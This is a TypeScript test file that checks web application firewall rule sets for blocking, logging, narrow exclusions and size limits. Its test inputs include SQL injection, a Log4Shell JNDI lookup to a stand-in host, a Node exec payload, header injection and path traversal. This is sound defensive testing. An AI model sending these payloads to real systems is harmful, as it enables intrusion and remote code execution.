/** The directives that the fleet renders, in the plugin itself and in Coraza with a newer rule set. */
import { beforeAll, describe, expect, test } from "bun:test";

import { cluster } from "../support/fleet.ts";
import { attacks } from "./attacks.ts";
import { requests, texts } from "./harmless.ts";
import { areBuilt, ask, type Configuration, programs, type Request, type Verdict } from "./programs.ts";
import { exclusionsOf, type Firewall, firewalls, withoutExclusions } from "./rendered.ts";
import { form, get, post, upload } from "./requests.ts";

const sql = "1' OR '1'='1' -- ";
const mebibyte = "x".repeat(1024 ** 2);
const attachments = "/api/v1/cases/4711/attachments";

let detecting: Firewall;
let blocking: Firewall;
beforeAll(async () => {
  [detecting, blocking] = (await firewalls([cluster.dev, cluster.staging])) as [Firewall, Firewall];
}, 600_000);

/** What has not the status that it should, by what it is. */
async function others(
  program: (typeof programs)[number],
  config: Configuration,
  cases: readonly (readonly [what: string, request: Request, ...unknown[]])[],
  isRight: (verdict: Verdict) => boolean,
): Promise<string[]> {
  const verdicts = await ask(
    program,
    config,
    cases.map(([, request]) => request),
  );
  return cases.flatMap(([what], index) => (isRight(verdicts[index]!) ? [] : [what]));
}

const isOne = ({ status, atOnce = status }: Verdict) => status === atOnce;
const passes = (verdict: Verdict) => isOne(verdict) && verdict.status === 0 && (verdict.log ?? []).length === 0;
const isBlocked = (verdict: Verdict) =>
  isOne(verdict) && [400, 403, 413].includes(verdict.status) && verdict.log?.length === 1;
const isLogged = (verdict: Verdict) => isOne(verdict) && verdict.status === 0 && (verdict.log ?? []).length > 0;

test("an environment that blocks stops what a failing firewall would let pass; one that does not stops nothing", () => {
  expect([detecting.failOpen, blocking.failOpen]).toEqual([true, false]);
  expect(blocking.config).not.toEqual(detecting.config);
});

describe.skipIf(!areBuilt).each(programs)("%s (bun tools/test-programs.ts builds what it needs)", (program) => {
  test("every attack is blocked, or logged where nothing is blocked", async () => {
    expect(await others(program, blocking.config, attacks, isBlocked)).toEqual([]);
    expect(await others(program, detecting.config, attacks, isLogged)).toEqual([]);
  });

  test("what people write, name and send passes, and is not in the log", async () => {
    expect(requests.length).toBeGreaterThan(40);
    expect(await others(program, blocking.config, requests, passes)).toEqual([]);
    expect(await others(program, detecting.config, requests, passes)).toEqual([]);
  });

  test("each exclusion lets a harmless text pass that is blocked without it", async () => {
    const cases = exclusionsOf(blocking.config).map(({ path, field, family }): [string, Request] => {
      const text = texts[family]?.[0] ?? "";
      return [`${family} of ${field} of ${path}`, post(path, { [field]: text })];
    });
    expect(cases.length).toBeGreaterThan(0);
    expect(await others(program, blocking.config, cases, passes)).toEqual([]);
    expect(await others(program, withoutExclusions(blocking.config), cases, isBlocked)).toEqual([]);
  });

  test("other attacks, other fields, other paths and other forms of the field are not excluded", async () => {
    const excluded = exclusionsOf(blocking.config);
    const [{ path, field }] = excluded as [(typeof excluded)[0]];
    const isExcluded = new Set(excluded.map((one) => `${one.path} ${one.field}`));
    const paths = [...new Set(excluded.map((one) => one.path))];
    const fields = [...new Set(excluded.map((one) => one.field))];
    const crossed = paths.flatMap((other) =>
      fields
        .filter((name) => !isExcluded.has(`${other} ${name}`))
        .map((name): [string, Request] => [`${other} ${name}`, post(other, { [name]: sql })]),
    );
    const cases: [string, Request][] = [
      ...crossed,
      ...fields.map((name): [string, Request] => [
        `/api/v1/configuration ${name}`,
        post("/api/v1/configuration", { [name]: sql }),
      ]),
      ["a longer name of the path", post(`${path}x`, { [field]: sql })],
      ["out of the path", post(`${path}/../configuration`, { [field]: sql })],
      ["out of the path, encoded", post(`${path}/%2e%2e/configuration`, { [field]: sql })],
      ["a field in a field", post(path, { case: { [field]: sql } })],
      ["the name in a query", get(`${path}?json.${field}=${encodeURIComponent(sql)}`)],
      ["the name in a form", form(path, { [`json.${field}`]: sql })],
      ["Log4Shell", post(path, { [field]: "${jndi:ldap://203.0.113.9/a}" })],
      ["Node", post(path, { [field]: "require('child_process').exec('id')" })],
      ["a header", post(path, { [field]: "x\r\nSet-Cookie: session=1" })],
    ];
    expect(crossed.length).toBeGreaterThan(0);
    expect(await others(program, blocking.config, cases, isBlocked)).toEqual([]);
  });

  test("a text has a MiB, a file as much as the gateway lets through; the name of a file is read also where its content is not", async () => {
    const file = upload(attachments, "call.wav", "x");
    const refused: [string, Request][] = [
      ["a long text", post("/api/v1/cases", { description: mebibyte })],
      ["a file elsewhere", upload("/api/v1/configuration", "call.wav", mebibyte)],
      ["a bad name of a long file", upload(attachments, "../../etc/passwd", mebibyte)],
      ["what is no multipart body", post(attachments, "--x\r\nfoo", "multipart/form-data; boundary=x")],
      ["a body without a type", { ...file, headers: file.headers.filter(([name]) => name !== "content-type") }],
    ];
    const taken: [string, Request][] = [
      ["a text", post("/api/v1/cases", { description: "x".repeat(1_000_000) })],
      ["a long file", upload(attachments, "call.wav", mebibyte)],
    ];
    expect(await others(program, blocking.config, refused, isBlocked)).toEqual([]);
    expect(await others(program, blocking.config, taken, passes)).toEqual([]);
    expect(await others(program, detecting.config, refused, isLogged)).toEqual([]);
  });

  test("the log has nothing of a body, a header or a cookie", async () => {
    const person = "Wanjiku 254712345678";
    const written = { title: `${person} ${sql}`, description: person };
    const request = post("/api/v1/cases", written);
    request.headers.push(["cookie", `session=${person}`], ["authorization", `Bearer ${person}`]);
    const [verdict] = await ask(program, detecting.config, [request]);
    expect(verdict!.log).toEqual([expect.stringContaining("sql 5")]);
    expect(verdict!.log![0]).not.toMatch(/Wanjiku|254712345678|OR/);
  });
});

describe.skipIf(!areBuilt)("the rules that match (bun tools/test-programs.ts builds what it needs)", () => {
  test("each class of attack is seen by its own rules", async () => {
    const verdicts = await ask(
      "library",
      blocking.config,
      attacks.map(([, request]) => request),
    );
    const strange = attacks.filter(
      ([, , family], index) =>
        family !== 0 && !verdicts[index]!.rules!.some(({ id }) => Math.floor(id / 1000) === family),
    );
    expect(strange.map(([what]) => what)).toEqual([]);
  });

  test("each harmless text is taken for one attack alone, so that each exclusion is needed", async () => {
    const cases = Object.entries(texts).flatMap(([family, list]) =>
      list.map((text) => [Number(family), text] as const),
    );
    const asked = cases.map(([, text]) => post("/api/v1/cases", { description: text }));
    const verdicts = await ask("library", withoutExclusions(blocking.config), asked);
    const strange = cases.filter(([family], index) => {
      const seen = new Set(verdicts[index]!.rules!.map(({ id }) => Math.floor(id / 1000)));
      return [...seen].some((other) => other !== family && other !== 949 && other !== 1);
    });
    expect(strange.map(([, text]) => text)).toEqual([]);
  });

  test("the plugin lets one of two spellings of a field hide the other, a newer Coraza does not: what mends it is said here", async () => {
    // GHSA-5gj4-9gm7-2fx2. Which of the two is seen is chance, so it is asked often.
    const twice = post("/api/v1/configuration", `{"q":${JSON.stringify(sql)},"Q":"x"}`);
    const asked = Array.from({ length: 40 }, () => twice);
    const blocked = async (program: (typeof programs)[number]) =>
      (await ask(program, blocking.config, asked)).filter(isBlocked).length;
    expect(await blocked("library")).toBe(asked.length);
    expect(await blocked("plugin")).toBeLessThan(asked.length);
  });

  test("the plugin reads a body that is cut as far as it goes, a newer Coraza refuses it", async () => {
    const cases: [string, Request][] = [["a cut body", post("/api/v1/configuration", `{"q":"x"`)]];
    expect(await others("library", blocking.config, cases, isBlocked)).toEqual([]);
    expect(await others("plugin", blocking.config, cases, passes)).toEqual([]);
  });
});
